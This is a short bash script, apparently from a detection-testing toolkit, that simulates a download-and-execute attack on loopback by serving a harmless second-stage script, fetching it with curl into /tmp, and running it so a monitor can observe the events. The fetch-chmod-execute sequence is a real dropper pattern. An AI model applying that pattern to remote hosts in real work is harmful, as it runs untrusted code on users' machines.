#!/usr/bin/env bash
# Download and execute, loopback only: serve a script with python3's
# http.server on 127.0.0.1, fetch it with curl into /tmp, chmod it, run it.
set -euo pipefail
cd "$(dirname "$0")" && . ./lib.sh
need python3 curl timeout
port=$(pick_port)
www=$(mktemp -d /tmp/vigil-demo-www.XXXXXX)
drop=$(mktemp -d /tmp/vigil-demo-drop.XXXXXX)
server=
cleanup() { [[ -n $server ]] && kill "$server" 2>/dev/null; rm -rf "$www" "$drop"; }
trap cleanup EXIT
cat >"$www/stage2.sh" <<'PAYLOAD'
#!/bin/sh
# harmless "second stage": just looks around
echo "stage2 running as $(id -un) on $(uname -n)"
ls /tmp >/dev/null
PAYLOAD

say "download and execute from http://$LOOPBACK:$port/stage2.sh"
timeout 30 python3 -m http.server --bind "$LOOPBACK" --directory "$www" "$port" >/dev/null 2>&1 &
server=$!
wait_listen "$port"
curl -fsS --max-time 5 -o "$drop/stage2.sh" "http://$LOOPBACK:$port/stage2.sh"
chmod +x "$drop/stage2.sh"
"$drop/stage2.sh"
note "look for: curl exec (argv with the URL), then $drop/stage2.sh executed from /tmp, then its id/uname/ls"
